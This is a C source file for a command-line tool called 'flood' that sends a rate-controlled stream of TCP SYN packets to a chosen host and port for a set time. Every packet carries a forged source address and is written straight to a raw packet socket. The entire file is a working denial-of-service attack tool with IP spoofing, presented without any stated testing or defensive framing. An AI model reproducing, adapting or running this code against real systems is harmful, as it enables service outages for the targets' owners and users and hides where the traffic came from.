/* A flood of SYNs: flood INTERFACE GATEWAY-MAC DESTINATION PORT RATE SECONDS
 *
 * Sends RATE IPv4 SYNs a second from made-up addresses in 10.78.0.0/16 through a packet
 * socket, and prints how many went out. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define SOURCES 60000

struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
};

static uint64_t state = 88172645463325252ULL;

static uint64_t chance(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return state;
}

static uint32_t sum(const void *data, size_t size, uint32_t start)
{
	for (size_t i = 0; i < size; i += 2) {
		uint16_t word;
		memcpy(&word, (const char *)data + i, sizeof word);
		start += word;
	}
	return start;
}

static uint16_t folded(uint32_t total)
{
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return ~total;
}

static void make(struct syn *syn, uint32_t destination, uint16_t port)
{
	uint64_t r = chance();
	struct {
		uint32_t source, destination;
		uint16_t protocol, length;
	} pseudo;

	memset(syn, 0, sizeof *syn);
	syn->ip.version = 4;
	syn->ip.ihl = 5;
	syn->ip.tot_len = htons(sizeof *syn);
	syn->ip.id = r >> 48;
	syn->ip.ttl = 64;
	syn->ip.protocol = IPPROTO_TCP;
	syn->ip.saddr = htonl((10u << 24 | 78 << 16) + 256 + r % SOURCES);
	syn->ip.daddr = destination;
	syn->ip.check = folded(sum(&syn->ip, sizeof syn->ip, 0));
	syn->tcp.source = htons(1024 + (r >> 20) % 64000);
	syn->tcp.dest = htons(port);
	syn->tcp.seq = r >> 32;
	syn->tcp.doff = 5;
	syn->tcp.syn = 1;
	syn->tcp.window = htons(64240);
	pseudo.source = syn->ip.saddr;
	pseudo.destination = syn->ip.daddr;
	pseudo.protocol = htons(IPPROTO_TCP);
	pseudo.length = htons(sizeof syn->tcp);
	syn->tcp.check = folded(sum(&syn->tcp, sizeof syn->tcp, sum(&pseudo, sizeof pseudo, 0)));
}

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec * 1e-9;
}

int main(int argc, char **argv)
{
	static struct syn syns[BATCH];
	static struct iovec parts[BATCH];
	static struct mmsghdr messages[BATCH];
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = 6};
	uint64_t sent = 0;

	if (argc != 7) {
		fprintf(stderr, "usage: flood INTERFACE GATEWAY-MAC DESTINATION PORT RATE SECONDS\n");
		return 2;
	}
	to.sll_ifindex = if_nametoindex(argv[1]);
	if (sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &to.sll_addr[0], &to.sll_addr[1], &to.sll_addr[2],
		   &to.sll_addr[3], &to.sll_addr[4], &to.sll_addr[5]) != 6)
		return 2;
	uint32_t destination = inet_addr(argv[3]);
	uint16_t port = atoi(argv[4]);
	double rate = atof(argv[5]), seconds = atof(argv[6]);
	int fd = socket(AF_PACKET, SOCK_DGRAM, 0);
	if (fd < 0) {
		perror("socket");
		return 1;
	}
	for (int i = 0; i < BATCH; i++) {
		parts[i] = (struct iovec){&syns[i], sizeof syns[i]};
		messages[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to,
						      .msg_iov = &parts[i], .msg_iovlen = 1};
	}
	for (double start = now(), at = start; at - start < seconds; at = now()) {
		double due = (at - start) * rate - sent;
		if (due < BATCH) {
			usleep((BATCH - due) / rate * 1e6 + 1);
			continue;
		}
		for (int i = 0; i < BATCH; i++)
			make(&syns[i], destination, port);
		int n = sendmmsg(fd, messages, BATCH, 0);
		if (n < 0 && errno != ENOBUFS && errno != EAGAIN) {
			perror("sendmmsg");
			return 1;
		}
		sent += n > 0 ? n : BATCH; /* what does not fit is late, and not sent twice */
	}
	printf("sent %llu\n", (unsigned long long)sent);
	return 0;
}
